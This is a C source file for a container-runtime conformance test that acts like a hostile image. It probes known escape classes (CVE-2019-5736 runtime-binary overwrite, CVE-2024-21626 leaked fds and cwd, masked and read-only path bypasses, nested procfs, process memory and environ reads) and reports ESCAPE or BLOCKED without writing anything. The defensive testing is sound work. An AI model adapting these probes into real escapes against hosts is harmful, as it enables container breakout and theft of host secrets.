/* attacker MODE [ARGS]: runs INSIDE a container (or as its hook) and tries to escape, as a hostile
 * image would. Built statically at test time (conformance/Security, NativeTools.Attacker).
 * Every result is one line on stdout:
 *   ESCAPE <class> <detail>    the attack worked (the test fails against oci-runtime)
 *   BLOCKED <class> <detail>   the attack was refused (detail: the errno name, or why)
 *   REACHED <class> <detail>   a step that is allowed but recorded (e.g. ptrace with CAP_SYS_PTRACE)
 * It never writes to anything it opens for writing: a successful write-open is the proof.
 *
 * Modes:
 *   watch MAX_MS MIN_FOREIGN   CVE-2019-5736 class: scan /proc for processes that are not the
 *                              container's (their exe is not a file of the image), open their
 *                              /proc/PID/exe, read environ and mem for the OCI_SECRET_CANARY the
 *                              test put in the runtime's environment, ptrace them if allowed, and
 *                              keep retrying a write-open of the exe until it no longer says ETXTBSY.
 *   fds [ALLOWED_FD...]        fds other than 0-2 and ALLOWED open at start (CVE-2024-21626 class)
 *   cwd CANARY_NAME            is the cwd inside the root? `..` walks to the host's /tmp/CANARY_NAME?
 *   nestproc                   a nested user+pid+mount namespace mounts a fresh procfs (--no-pivot)
 *   status OUTFILE             copies CapEff/CapPrm/NoNewPrivs/Seccomp of /proc/self/status (hooks)
 *   paths masked:P... ro:P...  masked paths readable with content? read-only paths write-openable?
 *   caps INH_HEX AMB_HEX       inheritable/ambient capabilities beyond what the config grants?
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#define SEAL_WRITE 0x0008
#define SEAL_FUTURE_WRITE 0x0010

static const char CANARY[] = "OCI_SECRET_CANARY=";

static void say(const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    /* One write per line: the lines of hooks and inits never interleave mid-line. */
    (void)!write(1, buf, n);
}

static const char *en(int e)
{
    const char *s = strerrorname_np(e);
    return s ? s : "E?";
}

static long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int has_cap(int cap)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    unsigned long long eff = 0;
    if (!f) return 0;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "CapEff: %llx", &eff) == 1) break;
    fclose(f);
    return (eff >> cap) & 1;
}

/* ---- watch: CVE-2019-5736 class ---------------------------------------------------------- */

#define MAXP 512
struct seen {
    int pid;
    int state;        /* 0 new, 1 ours, 2 foreign: exe fd held, write pending, 3 done */
    int exefd;        /* O_RDONLY or O_PATH fd of /proc/PID/exe */
    int reported_open;
    char exe[256];
};
static struct seen seen[MAXP];
static int nseen;
static dev_t own_dev[4];
static ino_t own_ino[4];
static int nown;

static void add_own(const char *path)
{
    struct stat st;
    if (nown < 4 && stat(path, &st) == 0) {
        own_dev[nown] = st.st_dev;
        own_ino[nown] = st.st_ino;
        nown++;
    }
}

static int is_own(const struct stat *st)
{
    for (int i = 0; i < nown; i++)
        if (own_dev[i] == st->st_dev && own_ino[i] == st->st_ino) return 1;
    return 0;
}

static int is_zombie_or_gone(int pid)
{
    char p[64], buf[512];
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 1;
    buf[n] = 0;
    char *rp = strrchr(buf, ')');
    return !rp || rp[1] == 0 || rp[2] == 'Z' || rp[2] == 'X';
}

static int memmem_canary(const char *buf, size_t n)
{
    return memmem(buf, n, CANARY, sizeof CANARY - 1) != NULL;
}

static void try_environ(int pid)
{
    char p[64];
    static char buf[1 << 16];
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        say("BLOCKED environ pid=%d %s", pid, en(errno));
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) say("BLOCKED environ pid=%d %s", pid, en(e));
    else if (memmem_canary(buf, n)) say("ESCAPE environ pid=%d the runtime's environment (OCI_SECRET_CANARY) is readable", pid);
    else say("BLOCKED environ pid=%d no-canary", pid);
}

/* Reads the readable mappings of pid (stack first, where the initial environment lives). */
static void try_mem(int pid)
{
    char p[64], line[512];
    snprintf(p, sizeof p, "/proc/%d/mem", pid);
    int mfd = open(p, O_RDONLY | O_CLOEXEC);
    if (mfd < 0) {
        say("BLOCKED mem pid=%d %s", pid, en(errno));
        return;
    }
    say("REACHED mem-open pid=%d", pid);
    snprintf(p, sizeof p, "/proc/%d/maps", pid);
    FILE *maps = fopen(p, "r");
    if (!maps) { close(mfd); return; }
    static char chunk[1 << 20];
    size_t total = 0;
    int found = 0;
    for (int pass = 0; pass < 2 && !found; pass++) {
        rewind(maps);
        while (!found && fgets(line, sizeof line, maps)) {
            unsigned long lo, hi;
            char perms[8];
            if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r') continue;
            int stack = strstr(line, "[stack]") != NULL;
            if ((pass == 0) != stack || strstr(line, "[vvar") || strstr(line, "[vsyscall]")) continue;
            if (hi - lo > (64UL << 20)) hi = lo + (64UL << 20);
            for (unsigned long a = lo; a < hi && !found && total < (256UL << 20);) {
                size_t want = hi - a < sizeof chunk ? hi - a : sizeof chunk;
                ssize_t n = pread(mfd, chunk, want, (off_t)a);
                if (n <= 0) break;
                total += n;
                /* Overlap by the canary length so a match across chunks is not missed. */
                if (memmem_canary(chunk, n)) found = 1;
                a += n > (ssize_t)sizeof CANARY ? n - (sizeof CANARY - 1) : n;
            }
        }
    }
    fclose(maps);
    close(mfd);
    if (found) say("ESCAPE mem pid=%d the runtime's environment (OCI_SECRET_CANARY) is in its memory", pid);
    else say("BLOCKED mem pid=%d no-canary in %zu bytes", pid, total);
}

static void try_ptrace(int pid)
{
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) {
        say("BLOCKED ptrace pid=%d %s", pid, en(errno));
        return;
    }
    int st;
    waitpid(pid, &st, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    say("REACHED ptrace pid=%d", pid);
}

/* The CVE-2019-5736 step: reopen the held exe for writing. Never writes. 1 = resolved. */
static int try_exe_write(struct seen *s)
{
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", s->exefd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
        if (errno == ETXTBSY) return 0; /* still executed by someone: retry until it is not */
        say("BLOCKED exe-write pid=%d %s exe=%s", s->pid, en(errno), s->exe);
        return 1;
    }
    int seals = fcntl(w, F_GET_SEALS);
    close(w);
    if (seals > 0 && (seals & (SEAL_WRITE | SEAL_FUTURE_WRITE)))
        say("BLOCKED exe-write pid=%d sealed-memfd exe=%s", s->pid, s->exe);
    else
        say("ESCAPE exe-write pid=%d the runtime binary opened for writing exe=%s", s->pid, s->exe);
    return 1;
}

static struct seen *lookup(int pid)
{
    for (int i = 0; i < nseen; i++)
        if (seen[i].pid == pid) return &seen[i];
    if (nseen == MAXP) return NULL;
    struct seen *s = &seen[nseen++];
    memset(s, 0, sizeof *s);
    s->pid = pid;
    s->exefd = -1;
    return s;
}

static void examine(struct seen *s, int ptrace_ok)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%d/exe", s->pid);
    if (stat(p, &st) != 0) {
        if (errno == ENOENT) return; /* zombie or gone */
        if (!s->reported_open) {
            /* Not dumpable to us: its exe, environ and memory are out of reach. */
            say("BLOCKED exe-open pid=%d %s", s->pid, en(errno));
            try_environ(s->pid);
            s->reported_open = 1;
        }
        return;
    }
    if (is_own(&st)) {
        s->state = 1;
        return;
    }
    ssize_t n = readlink(p, s->exe, sizeof s->exe - 1);
    s->exe[n > 0 ? n : 0] = 0;
    for (char *c = s->exe; *c; c++)
        if (*c == ' ') *c = '_';
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) fd = open(p, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if (errno == ENOENT) return;
        if (!s->reported_open) say("BLOCKED exe-open pid=%d %s", s->pid, en(errno));
        s->reported_open = 1;
        return;
    }
    s->exefd = fd;
    s->state = 2;
    say("REACHED exe-open pid=%d exe=%s", s->pid, s->exe);
    try_environ(s->pid);
    try_mem(s->pid);
    if (ptrace_ok) try_ptrace(s->pid);
}

static int mode_watch(int argc, char **argv)
{
    long max_ms = argc > 2 ? atol(argv[2]) : 3000;
    int min_foreign = argc > 3 ? atoi(argv[3]) : 0;
    long end = now_ms() + max_ms;
    int self = getpid(), foreign = 0;
    int ptrace_ok = has_cap(19 /* CAP_SYS_PTRACE */);
    add_own("/proc/self/exe");
    add_own("/bin/busybox");
    say("READY watch pid=%d ptrace=%d", self, ptrace_ok);
    while (now_ms() < end) {
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
        DIR *d = opendir("/proc");
        if (!d) { say("BLOCKED watch opendir-/proc %s", en(errno)); return 0; }
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            struct seen *s = lookup(pid);
            if (!s || s->state != 0) continue;
            examine(s, ptrace_ok);
            if (s->state == 2) foreign++;
        }
        closedir(d);
        int pending = 0, alive = 0;
        for (int i = 0; i < nseen; i++) {
            struct seen *s = &seen[i];
            if (s->state == 2) {
                if (try_exe_write(s)) { s->state = 3; close(s->exefd); }
                else pending++;
            }
            if (s->state == 0 && !is_zombie_or_gone(s->pid)) alive++;
        }
        if (min_foreign > 0 && foreign >= min_foreign && pending == 0 && alive == 0) break;
    }
    for (int i = 0; i < nseen; i++)
        if (seen[i].state == 2)
            say("BLOCKED exe-write pid=%d ETXTBSY-until-the-end exe=%s", seen[i].pid, seen[i].exe);
    say("DONE watch foreign=%d", foreign);
    return 0;
}

/* ---- fds and cwd: CVE-2024-21626 class ---------------------------------------------------- */

static int mode_fds(int argc, char **argv)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d) { say("BLOCKED fds opendir %s", en(errno)); return 0; }
    int leaked = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd <= 2 || fd == dirfd(d)) continue;
        int allowed = 0;
        for (int i = 2; i < argc; i++)
            if (atoi(argv[i]) == fd) allowed = 1;
        if (allowed) continue;
        char p[64], target[256];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, target, sizeof target - 1);
        target[n > 0 ? n : 0] = 0;
        say("ESCAPE fd %d %s", fd, target);
        leaked++;
    }
    closedir(d);
    if (!leaked) say("BLOCKED fd none-leaked");
    return 0;
}

static int mode_cwd(int argc, char **argv)
{
    char cwd[4096], path[4096];
    const char *name = argc > 2 ? argv[2] : "oci-sec-canary";
    if (!getcwd(cwd, sizeof cwd)) snprintf(cwd, sizeof cwd, "(getcwd: %s)", en(errno));
    /* Far more ".." than any host path is deep: from a cwd inside the root they stop at its /. */
    strcpy(path, "");
    for (int i = 0; i < 24; i++) strcat(path, "../");
    strcat(path, "tmp/");
    strncat(path, name, 256);
    struct stat st;
    if (stat(path, &st) == 0) say("ESCAPE cwd host /tmp/%s reached through .. (cwd %s)", name, cwd);
    else if (cwd[0] != '/') say("ESCAPE cwd outside the root: %s", cwd);
    else say("BLOCKED cwd inside-root cwd=%s", cwd);
    return 0;
}

/* ---- nestproc: --no-pivot --------------------------------------------------------------------- */

static int write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    int e = errno;
    close(fd);
    errno = e;
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

static int mode_nestproc(void)
{
    char map[64];
    unsigned uid = geteuid(), gid = getegid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) != 0) {
        say("BLOCKED nestproc unshare %s", en(errno));
        return 0;
    }
    /* Mapping our own id needs CAP_SETFCAP when it is root (kernel 5.12+): without a map the nested
     * namespace still holds every capability over itself, which is all a procfs mount needs. */
    snprintf(map, sizeof map, "0 %u 1", uid);
    if (write_file("/proc/self/uid_map", map) == 0) {
        write_file("/proc/self/setgroups", "deny");
        snprintf(map, sizeof map, "0 %u 1", gid);
        write_file("/proc/self/gid_map", map);
    }
    pid_t child = fork();
    if (child < 0) { say("BLOCKED nestproc fork %s", en(errno)); return 0; }
    if (child == 0) {
        mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
        /* The kernel allows a fresh procfs here only if a full procfs is already visible in the
         * mount namespace (mount_too_revealing): e.g. the host's, left behind by --no-pivot. */
        if (mount("proc", "/tmp", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) == 0)
            say("ESCAPE nestproc a fresh procfs was mounted from a nested user namespace");
        else
            say("BLOCKED nestproc mount-proc %s", en(errno));
        _exit(0);
    }
    waitpid(child, NULL, 0);
    return 0;
}

/* ---- status: what a hook runs with ------------------------------------------------------------ */

static int mode_status(int argc, char **argv)
{
    FILE *in = fopen("/proc/self/status", "r");
    FILE *out = argc > 2 && strcmp(argv[2], "-") ? fopen(argv[2], "w") : stdout;
    char line[256];
    if (!in || !out) { say("BLOCKED status open %s", en(errno)); return 1; }
    while (fgets(line, sizeof line, in))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs:", 11) || !strncmp(line, "Seccomp:", 8))
            fputs(line, out);
    fclose(in);
    fclose(out);
    return 0;
}

/* ---- paths: masked and read-only ---------------------------------------------------------------- */

static void check_masked(const char *p)
{
    struct stat st;
    if (lstat(p, &st) != 0) { say("BLOCKED masked %s absent-%s", p, en(errno)); return; }
    if (S_ISDIR(st.st_mode)) {
        DIR *d = opendir(p);
        int entries = 0;
        struct dirent *e;
        if (!d) { say("BLOCKED masked %s %s", p, en(errno)); return; }
        while ((e = readdir(d)))
            if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) entries++;
        closedir(d);
        if (entries) say("ESCAPE masked %s lists %d entries", p, entries);
        else say("BLOCKED masked %s empty-dir", p);
        return;
    }
    /* CVE-2025-31133 class: a mask that is not the character device 1:3 may be whatever a swapped
     * /dev/null pointed at (a host procfs file such as core_pattern): is it write-openable? */
    if (!S_ISCHR(st.st_mode) || major(st.st_rdev) != 1 || minor(st.st_rdev) != 3) {
        int w = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (w >= 0) {
            close(w);
            say("ESCAPE masked %s is not /dev/null and opens for writing", p);
            return;
        }
    }
    int fd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) { say("BLOCKED masked %s %s", p, en(errno)); return; }
    char buf[64];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n > 0) say("ESCAPE masked %s readable (%zd bytes)", p, n);
    else say("BLOCKED masked %s empty", p);
}

static void check_readonly(const char *p)
{
    /* Opened for writing, never written: the open alone shows the host file is writable. */
    int fd = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd >= 0) {
        close(fd);
        say("ESCAPE readonly %s opened for writing", p);
    } else {
        say("BLOCKED readonly %s %s", p, en(errno));
    }
}

static int mode_paths(int argc, char **argv)
{
    for (int i = 2; i < argc; i++) {
        if (!strncmp(argv[i], "masked:", 7)) check_masked(argv[i] + 7);
        else if (!strncmp(argv[i], "ro:", 3)) check_readonly(argv[i] + 3);
    }
    return 0;
}

/* ---- caps: inheritable and ambient ---------------------------------------------------------- */

static int mode_caps(int argc, char **argv)
{
    unsigned long long want_inh = argc > 2 ? strtoull(argv[2], NULL, 16) : 0;
    unsigned long long want_amb = argc > 3 ? strtoull(argv[3], NULL, 16) : 0;
    unsigned long long inh = 0, amb = 0;
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    if (!f) { say("BLOCKED caps status %s", en(errno)); return 0; }
    while (fgets(line, sizeof line, f)) {
        sscanf(line, "CapInh: %llx", &inh);
        sscanf(line, "CapAmb: %llx", &amb);
    }
    fclose(f);
    if (inh & ~want_inh) say("ESCAPE caps inheritable %016llx beyond the config's %016llx", inh, want_inh);
    else say("BLOCKED caps inheritable %016llx", inh);
    if (amb & ~want_amb) say("ESCAPE caps ambient %016llx beyond the config's %016llx", amb, want_amb);
    else say("BLOCKED caps ambient %016llx", amb);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: attacker watch|fds|cwd|nestproc|status|paths|caps ...\n");
        return 2;
    }
    const char *m = argv[1];
    if (!strcmp(m, "watch")) return mode_watch(argc, argv);
    if (!strcmp(m, "fds")) return mode_fds(argc, argv);
    if (!strcmp(m, "cwd")) return mode_cwd(argc, argv);
    if (!strcmp(m, "nestproc")) return mode_nestproc();
    if (!strcmp(m, "status")) return mode_status(argc, argv);
    if (!strcmp(m, "paths")) return mode_paths(argc, argv);
    if (!strcmp(m, "caps")) return mode_caps(argc, argv);
    fprintf(stderr, "attacker: unknown mode %s\n", m);
    return 2;
}
